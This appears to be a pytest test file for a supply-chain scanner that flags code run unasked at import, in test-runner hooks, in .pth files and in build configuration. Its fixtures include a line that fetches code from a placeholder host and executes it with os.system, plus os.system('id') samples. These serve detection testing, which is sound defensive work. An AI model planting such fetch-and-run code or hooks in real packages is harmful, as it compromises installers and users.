"""Capabilities: gains where code runs unasked, hooks in configuration, and what nobody can classify."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from guard.app import default_scanner
from guard.checks.capabilities.check import Capabilities
from guard.checks.kit.interface import Context, Ports
from guard.errors import ToolError
from guard.facts.gather import gather
from guard.model.change import ChangeSet
from guard.model.finding import CheckResult

SHELL = "import os\n\nx = 1\n\n\ndef {}:\n    os.system('id')\n"
FETCH = "import os\nimport urllib.request\n\nos.system(urllib.request.urlopen('http://a.example').read())\n"


def run(
    before: Mapping[str, str], after: Mapping[str, str], options: Mapping[str, Any] | None = None
) -> CheckResult:
    old, new = ({path: text.encode() for path, text in side.items()} for side in (before, after))
    change = ChangeSet.from_files(old, new)
    context = Context(change, lambda: gather(change), Ports(default_scanner()), lambda: options or {})
    return Capabilities().run(context)


def found(before: Mapping[str, str], after: Mapping[str, str]) -> list[tuple[str, str]]:
    return [(one.id, one.severity.value) for one in run(before, after).findings]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("pkg/__init__.py", ("fetch-and-run-at-import", "high")),
        ("setup.py", ("fetch-and-run-at-import", "high")),
        ("tests/conftest.py", ("fetch-and-run-at-import", "high")),
        ("src/sitecustomize.py", ("fetch-and-run-at-import", "high")),
        ("pkg/module.py", ("fetch-and-run-at-import", "medium")),
    ],
)
def test_fetching_and_running(path: str, expected: tuple[str, str]) -> None:
    assert set(found({path: "x = 1\n"}, {path: "x = 1\n" + FETCH})) == {expected}


@pytest.mark.parametrize("path", ["scripts/get.py", "examples/a.py", "tests/test_a.py", "pkg/__main__.py"])
def test_what_somebody_starts_is_not_judged(path: str) -> None:
    assert found({path: "x = 1\n"}, {path: "x = 1\n" + FETCH}) == []


def test_any_power_at_start_up_is_grave() -> None:
    after = {"usercustomize.py": "import threading\n\nthreading.Thread(target=print).start()\n"}
    assert set(found({}, after)) == {("power-at-import", "high")}


@pytest.mark.parametrize("symbol", ["pytest_configure(config)", "pytest_collection_modifyitems(items)"])
def test_hooks_of_the_test_runner_run_unasked(symbol: str) -> None:
    assert found({"conftest.py": "x = 1\n"}, {"conftest.py": SHELL.format(symbol)}) == [
        ("power-at-import", "medium")
    ]


def test_a_fixture_runs_only_where_a_test_asks_for_it() -> None:
    assert found({"conftest.py": "x = 1\n"}, {"conftest.py": SHELL.format("server()")}) == []


@pytest.mark.parametrize(
    "config",
    [
        "[build-system]\nbackend-path = ['tools_build']\nbuild-backend = 'mine'\n",
        "[tool.hatch.build.hooks.custom]\npath = 'tools_build/hook.py'\n",
        "[tool.pdm.build]\ncustom-hook = 'tools_build/hook.py'\n",
        "[tool.poetry.build]\nscript = 'tools_build/hook.py'\n",
    ],
)
def test_files_that_the_configuration_makes_part_of_the_build(config: str) -> None:
    before = {"pyproject.toml": config, "tools_build/hook.py": "x = 1\n"}
    after = {**before, "tools_build/hook.py": SHELL.format("build_wheel()")}
    assert found(before, after) == [("power-at-import", "medium")]
    assert ("start-hook-added", "medium") in found({"pyproject.toml": ""}, {"pyproject.toml": config})


@pytest.mark.parametrize(
    ("path", "text", "count"),
    [
        ("a.pth", "import os; os.system('id')\n", 1),
        ("a.pth", "../lib\n", 0),
        ("setup.cfg", "[options.entry_points]\npytest11 =\n    a = a.plugin\n", 1),
        ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    a = a.cli:main\n", 0),
        ("setup.cfg", "[options]\ncmdclass =\n    build = a.Build\n", 1),
        ("pyproject.toml", "[project.entry-points.'flake8.extension']\nA = 'a:Checker'\n", 1),
        ("pyproject.toml", "[tool.poetry.plugins.pytest11]\na = 'a.plugin'\n", 1),
        ("pyproject.toml", "[build-system]\nbuild-backend = 'hatchling.build'\n", 0),
        ("pyproject.toml", "[build-system]\nbuild-backend = 'mine'\n", 1),
        ("hatch.toml", "[build.hooks.custom]\n", 1),
        ("pyproject.toml", "[tool.hatch.build.targets.wheel.hooks.custom]\n", 1),
        ("pyproject.toml", "not toml [", 0),
    ],
)
def test_hooks_in_configuration(path: str, text: str, count: int) -> None:
    assert len([one for one in found({}, {path: text}) if one[0] == "start-hook-added"]) == count
    assert found({path: text}, {path: text + "\n# more\n"}) == []


def test_unanalysed_calls_are_counted_and_named() -> None:
    result = run({}, {"a.py": "import little\n\n\ndef f(client):\n    client.send(little.get())\n"})
    assert result.outcome.details == ("unanalysed: 2 new calls, of client.send, little.get",)
    assert [one.id for one in result.findings] == ["unanalysed-library"]


def test_the_policy_may_bound_them() -> None:
    after = {"a.py": "def f(client):\n    client.send()\n    client.stop()\n"}
    assert [one.id for one in run({}, after, {"unanalysed_calls": 1}).findings] == ["unanalysed-calls"]
    assert run({}, after, {"unanalysed_calls": 2}).findings == ()


@pytest.mark.parametrize("options", [{"unanalysed": 1}, {"unanalysed_calls": -1}, {"unanalysed_calls": True}])
def test_wrong_options_are_an_error(options: dict[str, Any]) -> None:
    with pytest.raises(ToolError, match="unanalysed_calls"):
        run({}, {"a.py": "x = 1\n"}, options)
